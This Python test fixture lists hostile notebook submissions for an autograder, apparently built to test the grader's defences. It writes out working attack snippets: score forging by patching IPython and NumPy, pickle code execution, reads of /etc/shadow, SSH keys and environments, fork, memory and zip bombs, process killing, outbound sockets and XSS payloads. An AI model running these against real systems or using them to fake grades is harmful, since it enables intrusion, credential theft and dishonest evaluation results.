"""Hostile submissions made of cells. Each says what it tries, and what it honestly deserves.

`nothing` attacks hand in the untouched release with a hostile cell: they deserve 0 points. `honest` ones hand in the
right solution with a hostile cell beside it: they deserve all 20, if they come out alive.
"""

from collections.abc import Mapping
from dataclasses import dataclass, field

FULL = {
    "test_area": 3,
    "test_corners_to_center": 2,
    "test_center_to_corners": 2,
    "test_intersection": 3,
    "test_iou": 4,
    "test_iou_matrix": 6,
}
ZERO = dict.fromkeys(FULL, 0)


@dataclass(frozen=True)
class Attack:
    """A hostile submission."""

    name: str
    tries: str
    points: Mapping[str, float]
    first: str = ""
    """An additional cell before all others."""
    last: str = ""
    """One after all others."""
    cells: Mapping[str, str] = field(default_factory=dict)
    """Solution cells that differ from the base."""
    honest: bool = False


ATTACKS: list[Attack] = []


def nothing(name: str, tries: str, first: str = "", last: str = "", cells: Mapping[str, str] | None = None) -> None:
    ATTACKS.append(Attack(name, tries, ZERO, first, last, cells or {}))


def honest(name: str, tries: str, first: str = "", last: str = "", **points: float) -> None:
    ATTACKS.append(Attack(name, tries, FULL | points, first, last, honest=True))


def lying(name: str, tries: str, source: str) -> None:
    """The right solution, but for `iou_matrix`, which lies."""
    ATTACKS.append(Attack(name, tries, FULL | {"test_iou_matrix": 0}, cells={"iou_matrix": source}, honest=True))


# The score as it is shown, run or compared

nothing(
    "display_hook",
    "Has every cell display full points, as nbgrader reads them.",
    "import sys\nsys.displayhook = lambda value: print(6)\nget_ipython().displayhook.__class__.__call__ = lambda *_: None",
)
nothing(
    "formatter",
    "Replaces IPython's formatter, so that whatever is displayed is full points.",
    "ip = get_ipython()\nip.display_formatter.format = lambda value, *a, **k: ({'text/plain': '6'}, {})\n6",
)
nothing(
    "source_transformer",
    "Rewrites the source of the cells that follow: tests become `pass`.",
    "ip = get_ipython()\nip.input_transformers_cleanup.append(lambda lines: ['pass\\n'])",
)
nothing(
    "syntax_tree_transformer",
    "Removes every assert and raise from the syntax tree of what follows.",
    "import ast\nclass Gone(ast.NodeTransformer):\n    def visit_Assert(self, node): return ast.Pass()\n"
    "    def visit_Raise(self, node): return ast.Pass()\nget_ipython().ast_transformers.append(Gone())",
)
nothing(
    "patched_runner",
    "Patches what runs a cell: everything succeeds without running.",
    "from IPython.core.interactiveshell import InteractiveShell\n"
    "from IPython.core.interactiveshell import ExecutionResult, ExecutionInfo\n"
    "async def fine(self, *a, **k):\n    return ExecutionResult(ExecutionInfo('', False, False, False, ''))\n"
    "InteractiveShell.run_cell_async = fine",
)
nothing(
    "patched_kernel",
    "Answers every request with `ok` and no outputs.",
    "kernel = get_ipython().kernel\nasync def fine(*a, **k):\n"
    "    return {'status': 'ok', 'execution_count': 1, 'payload': [], 'user_expressions': {}}\n"
    "kernel.do_execute = fine",
)
nothing(
    "patched_exit",
    "Swallows exceptions before they are reported.",
    "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: [])",
)
lying(
    "lying_equality",
    "Returns an array that is equal to everything.",
    "class Yes(np.ndarray):\n    def __eq__(self, other): return np.ones(self.shape, bool)\n    __ne__ = lambda s, o: False\n"
    "def iou_matrix(a, b):\n    return np.zeros((len(a), len(b))).view(Yes) - 1",
)
lying(
    "lying_conversion",
    "Returns an object that becomes another array each time it is converted.",
    "class Chameleon:\n    def __array__(self, dtype=None, copy=None):\n        import random\n"
    "        return np.full((5, 3), random.random())\n    def __eq__(self, other): return True\n"
    "def iou_matrix(a, b): return Chameleon()",
)
lying(
    "returns_its_input",
    "Returns what it was given, hoping that it will be compared with itself.",
    "def iou_matrix(a, b): return a",
)
nothing(
    "patched_numpy",
    "Patches NumPy's comparisons inside, so that everything is close to everything.",
    "import numpy as np\nnp.allclose = lambda *a, **k: True\nnp.isclose = lambda *a, **k: True\n"
    "np.testing.assert_allclose = lambda *a, **k: None\nnp.array_equal = lambda *a: True",
)
nothing(
    "patched_saving",
    "Patches `savez` to save ones for whatever is asked.",
    "import numpy as np\nreal = np.savez_compressed\n"
    "np.savez_compressed = lambda file, **parts: real(file, **{'0/value': np.ones(1)})",
)
nothing(
    "patched_builtins",
    "Replaces eval, compile and print in builtins.",
    "import builtins\nbuiltins.eval = lambda *a: 0.0\nbuiltins.compile = lambda *a, **k: None\nbuiltins.print = lambda *a: None",
)
nothing(
    "numpy_replaced",
    "Puts a fake NumPy in sys.modules.",
    "import sys, types\nfake = types.ModuleType('numpy')\nfake.asarray = lambda v: 1\nsys.modules['numpy'] = fake",
)

# Answers that are forged, poisoned or monstrous

FORGE = """
import base64, io, sys, types
import numpy as np
from IPython.display import publish_display_data
def send(packed):
    publish_display_data({'application/x-course-answer': base64.b64encode(packed).decode()})
def packed(**parts):
    file = io.BytesIO()
    np.savez_compressed(file, **{name.replace('_', '/'): value for name, value in parts.items()})
    return file.getvalue()
fake = types.ModuleType('course_ask')
sys.modules['course_ask'] = fake
"""
nothing(
    "forged_answers",
    "Replaces the module that asks, and answers with ones.",
    FORGE + "fake.ask = lambda *a: send(packed(**{f'{n}_value': np.ones(()) for n in range(12)}))",
)
nothing(
    "answers_before_questions",
    "Publishes answers before anything was asked.",
    FORGE + "for _ in range(20): send(packed(**{'0_value': 6}))\nfake.ask = lambda *a: None",
)
nothing(
    "poisoned_pickle",
    "Answers with a pickle that runs a command where it is read.",
    FORGE
    + 'class Boom:\n    def __reduce__(self): return (eval, (\'__import__("os").system("touch /tmp/course-canary")\',))\n'
    "fake.ask = lambda *a: send(packed(**{'0_value': np.array([Boom()], dtype=object)}))",
)
nothing(
    "raw_pickle",
    "Answers with a bare pickle instead of an archive.",
    FORGE
    + 'import pickle\nclass Boom:\n    def __reduce__(self): return (eval, (\'__import__("os").system("touch /tmp/course-canary")\',))\n'
    "fake.ask = lambda *a: send(pickle.dumps(Boom()))",
)
nothing(
    "answer_bomb",
    "Answers with an archive that unpacks to gigabytes.",
    FORGE
    + "import zipfile\ndef bomb(*a):\n    file = io.BytesIO()\n    with zipfile.ZipFile(file, 'w', zipfile.ZIP_DEFLATED) as z:\n"
    "        with z.open('0/value.npy', 'w') as member:\n            for _ in range(300): member.write(bytes(10**6))\n    send(file.getvalue())\nfake.ask = bomb",
)
nothing(
    "absurd_shape",
    "Answers with a header that claims a petabyte.",
    FORGE
    + "import zipfile\nheader = b\"{'descr': '<f8', 'fortran_order': False, 'shape': (10**14,)}\".replace(b'10**14', b'100000000000000') + b'\\n'\n"
    "def absurd(*a):\n    file = io.BytesIO()\n    with zipfile.ZipFile(file, 'w') as z:\n"
    "        z.writestr('0/value.npy', b'\\x93NUMPY\\x01\\x00' + len(header).to_bytes(2, 'little') + header)\n    send(file.getvalue())\nfake.ask = absurd",
)
nothing(
    "no_base64",
    "Answers with text that is no base64, and with other types.",
    FORGE
    + "def junk(*a):\n    for value in ('%%%', 'x' * 10**6, 'é'):\n        publish_display_data({'application/x-course-answer': value})\nfake.ask = junk",
)
nothing(
    "two_answers",
    "Answers a question twice, the second time better.",
    FORGE
    + "def twice(*a):\n    send(packed(**{'0_value': 0}))\n    send(packed(**{f'{n}_value': 6 for n in range(12)}))\nfake.ask = twice",
)
nothing(
    "forged_messages",
    "Sends forged messages of all kinds over the kernel's own sockets.",
    "kernel = get_ipython().kernel\nsession, socket = kernel.session, kernel.iopub_socket\n"
    "for kind, content in [('status', {}), ('status', {'execution_state': 7}), ('stream', {'name': 1, 'text': None}),\n"
    "        ('display_data', {'data': 5}), ('display_data', None), ('execute_result', {'data': {'text/plain': {}}}), ('error', {}),\n"
    "        ('execute_reply', {'status': 'ok'}), ('no_such_kind', {'deep': [[[[]]]]})]:\n"
    "    session.send(socket, kind, content, parent=kernel.get_parent())",
)
for label, value in {
    "nan": "np.full((len(a), len(b)), np.nan)",
    "infinite": "np.full((len(a), len(b)), np.inf)",
    "text": "np.full((len(a), len(b)), '1.0')",
    "object": "np.full((len(a), len(b)), None, dtype=object)",
    "complex": "np.ones((len(a), len(b))) * 1j",
    "booleans": "np.ones((len(a), len(b)), bool)",
    "huge": "np.zeros((5000, 5000))",
    "iterator": "iter([1, 2, 3])",
    "infinite_generator": "(n for n in iter(int, 1))",
}.items():
    lying(f"answer_of_{label}", f"Answers with {label.replace('_', ' ')}.", f"def iou_matrix(a, b): return {value}")
lying("exits_when_asked", "Raises SystemExit when asked.", "def iou_matrix(a, b): raise SystemExit(0)")
lying("interrupts_when_asked", "Raises KeyboardInterrupt when asked.", "def iou_matrix(a, b): raise KeyboardInterrupt")
lying("dies_when_asked", "Ends the kernel when asked.", "def iou_matrix(a, b):\n    import os\n    os._exit(0)")
lying("recurses", "Recurses without end.", "def iou_matrix(a, b): return iou_matrix(a, b)")
lying(
    "error_that_never_ends",
    "Raises an exception whose text takes for ever.",
    "class Slow(Exception):\n    def __str__(self):\n        while True: pass\ndef iou_matrix(a, b): raise Slow",
)
lying(
    "error_with_a_script",
    "Raises an exception whose text is a script, colours and markup, ten megabytes of it.",
    "def iou_matrix(a, b): raise ValueError('<script>alert(1)</script>\\x1b[31m[red]' * 200_000)",
)
lying("never_ends_when_asked", "Never comes back when asked.", "def iou_matrix(a, b):\n    while True: pass")
lying(
    "ignores_interrupts_when_asked",
    "Never comes back, and ignores interrupts.",
    "def iou_matrix(a, b):\n    import signal\n    signal.signal(signal.SIGINT, signal.SIG_IGN)\n    while True: pass",
)

# Looking for answers where there are none

nothing(
    "reads_the_master",
    "Looks through the whole file system for masters, scoring, gradebooks and other submissions.",
    "import os\nfound = []\nfor folder, below, names in os.walk('/'):\n"
    # The interpreter's own files are not worth the time: a walk over all of them can be longer than a cell may run.
    "    below[:] = [n for n in below if n not in ('proc', 'sys', 'share', 'site-packages') and not n.startswith('python3')]\n"
    "    found += [os.path.join(folder, name) for name in names\n"
    "              if name in ('scoring.py', 'gradebook.db', 'expected.json', 'record.json') or name.endswith('.ipynb')]\n"
    "print('FOUND', found)",
    "print([open(name).read() for name in found])",
)
nothing(
    "reads_the_machine",
    "Reads passwords, keys and the instructor's environment.",
    "import glob, os\nfor name in ['/etc/passwd', '/etc/shadow', *glob.glob('/root/.*'), *glob.glob('/home/*/.ssh/*'),\n"
    "             *glob.glob('/proc/*/environ')]:\n    try: print(name, open(name, 'rb').read())\n    except OSError as e: print(e)\n"
    "print(dict(os.environ))",
)
nothing(
    "searches_memory",
    "Searches every frame and object for expected values.",
    "import gc, sys\ndef expected():\n    return [o for o in gc.get_objects() if isinstance(o, dict) and 'expected' in o]\n"
    "print(len(expected()), [f for f in sys._current_frames().values()])",
)
nothing(
    "rewrites_the_questions",
    "Changes the questions into easy ones.",
    "import glob\nfor name in glob.glob('/questions/*'):\n    try: open(name, 'w').write('{}')\n    except OSError as e: print(e)",
)
nothing(
    "writes_the_gradebook",
    "Writes a gradebook, and a record, wherever one might be.",
    "import sqlite3, os\nfor path in ['gradebook.db', '../gradebook.db', '/work/gradebook.db', '/tmp/gradebook.db']:\n"
    "    try: sqlite3.connect(path).execute('create table grade (x)')\n    except sqlite3.Error as e: print(e)\n"
    "open('record.json', 'w').write('{\"points\": 20}')",
)
nothing(
    "plants_links",
    "Plants links in its working directory to whatever may be read from there.",
    "import os\nfor n, target in enumerate(['/etc/passwd', '/', '..', '/proc/1/root', '/questions']):\n"
    "    for name in (f'link{n}', f'{n}.npz'): os.symlink(target, name)\nos.makedirs('autograded', exist_ok=True)",
)
nothing(
    "plants_modules",
    "Leaves modules in the working directory that would be imported by whoever starts there.",
    "for name in ('numpy', 'json', 'sitecustomize', 'usercustomize', 'course_ask', 'IPython', 'ipykernel'):\n"
    "    open(f'{name}.py', 'w').write('import os; os._exit(0)')",
)

# Reaching out

NETWORK = """
import socket
tried = []
for family, kind, address in [
    (socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', {port})), (socket.AF_INET, socket.SOCK_DGRAM, ('127.0.0.1', {port})),
    (socket.AF_INET, socket.SOCK_STREAM, ('1.1.1.1', 443)), (socket.AF_UNIX, socket.SOCK_STREAM, '{path}'),
    (socket.AF_UNIX, socket.SOCK_STREAM, '\\0course-canary'),
]:
    try:
        with socket.socket(family, kind) as s:
            s.settimeout(0.5)
            s.connect(address)
            s.send(b'points')
    except OSError as e: tried.append(str(e))
print(tried)
"""
honest("network", "Connects to the machine, to the world, and to sockets in the file system.", NETWORK)
honest(
    "name_lookup",
    "Looks a name up, which is a way out, too.",
    "import socket\ntry: socket.getaddrinfo('example.com', 80)\nexcept OSError as e: print(e)",
)
honest(
    "signals",
    "Kills whatever it may signal: its parent, everybody, the first process.",
    "import os, signal\nfor pid in (os.getppid(), 1, *range(2, 40)):\n    if pid != os.getpid():\n"
    "        try: os.kill(pid, signal.SIGTERM)\n        except OSError: pass",
)
honest(
    "kills_all",
    "Sends SIGKILL to everything at once.",
    last="import os, signal\nos.kill(-1, signal.SIGKILL)",
)
honest(
    "stops_itself",
    "Stops the kernel with SIGSTOP, so that nothing answers.",
    last="import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
)
honest(
    "traces_its_parent",
    "Attaches to its parent as a debugger.",
    "import ctypes, os\nprint(ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0))",
)
honest(
    "kernel_settings",
    "Writes to the kernel's settings and mounts something.",
    "import ctypes\nfor name in ('/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger', '/sys/kernel/mm'):\n"
    "    try: open(name, 'w').write('x')\n    except OSError as e: print(e)\n"
    "print(ctypes.CDLL(None).mount(b'none', b'/mnt', b'tmpfs', 0, None), ctypes.CDLL(None).chroot(b'/'))",
)
honest(
    "outlives_its_kernel",
    "Leaves processes behind, twice forked and in sessions of their own.",
    "import os, sys, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
    "        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(600)', 'course-canary-process'])\n    os._exit(0)",
)

# Using things up

honest("fork_bomb", "Forks until nothing is left.", "import os\nwhile True: os.fork()")
honest(
    "thread_bomb",
    "Starts threads until nothing is left.",
    "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(99,)).start()",
)
honest("memory_bomb", "Takes all memory.", "x = []\nwhile True: x.append(bytearray(50_000_000))")
honest(
    "memory_bomb_in_a_child",
    "Takes all memory in a child.",
    "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'x = []\\nwhile True: x.append(bytearray(50_000_000))'])",
)
honest(
    "fills_the_disk",
    "Writes to every folder until nothing fits.",
    "import os\nfor folder in ('.', '/tmp', '/dev/shm', '/var/tmp', '/data'):\n    try:\n"
    "        with open(folder + '/big', 'wb') as f:\n            for _ in range(3000): f.write(bytes(10**6))\n"
    "    except OSError as e: print(folder, e)\n    finally:\n        if os.path.exists(folder + '/big'): os.remove(folder + '/big')",
)
honest(
    "fills_the_shared_folder",
    "Writes to the one folder that the machine can see, too.",
    "import time\nfor n in range(10**6): open(f'/run/kernel/{n}', 'wb').write(bytes(10**6))",
)
honest("many_files", "Makes files until there are no more.", "for n in range(60_000): open(str(n), 'w').close()")
honest("endless_output", "Prints without end.", "while True: print('x' * 10_000)")
honest("endless_errors", "Writes to stderr without end.", "import sys\nwhile True: sys.stderr.write('x' * 10_000)")
honest(
    "endless_display",
    "Displays without end.",
    "from IPython.display import display\nwhile True: display({'text/plain': 'x' * 100_000}, raw=True)",
)
honest(
    "one_great_message",
    "Sends one message of a gigabyte.",
    "from IPython.display import display\ndisplay({'text/plain': 'x' * 200_000_000}, raw=True)",
)
honest("endless_loop", "Never ends.", "while True: pass")
honest("endless_sleep", "Sleeps through its time.", "import time\ntime.sleep(10**6)")
honest(
    "ignores_interrupts",
    "Never ends and ignores interrupts.",
    "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass",
)
honest("exits", "Ends the kernel.", "import os\nos._exit(0)")
honest("crashes", "Crashes the interpreter.", "import ctypes\nctypes.string_at(0)")
honest(
    "exits_from_a_thread",
    "Ends the kernel from a thread, a little later.",
    "import os, threading, time\nthreading.Timer(0.3, os._exit, [0]).start()\ntime.sleep(1)",
)
honest("asks_for_input", "Waits for input that never comes.", "input('points? ')")

# What is shown to people

honest(
    "script_in_outputs",
    "Displays HTML, JavaScript and widgets that would run where the notebook is looked at.",
    "from IPython.display import HTML, Javascript, SVG, display\n"
    "display(HTML('<script>alert(1)</script><img src=x onerror=alert(1)>'), Javascript('alert(1)'))\n"
    "display({'text/html': '<script>alert(1)</script>', 'application/vnd.jupyter.widget-view+json': {}, 'text/latex': '$x$'}, raw=True)\n"
    "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>'))\n"
    "display({'image/png': '\"><script>alert(1)</script>', 'text/plain': 'picture'}, raw=True)",
)
honest(
    "terminal_codes",
    "Prints codes that would drive the terminal of whoever reads.",
    "print('\\x1b]0;owned\\x07\\x1b[2J[red]markup[/red]\\u202e')\nraise ValueError('\\x1b[2J[bold]points[/bold]')",
)
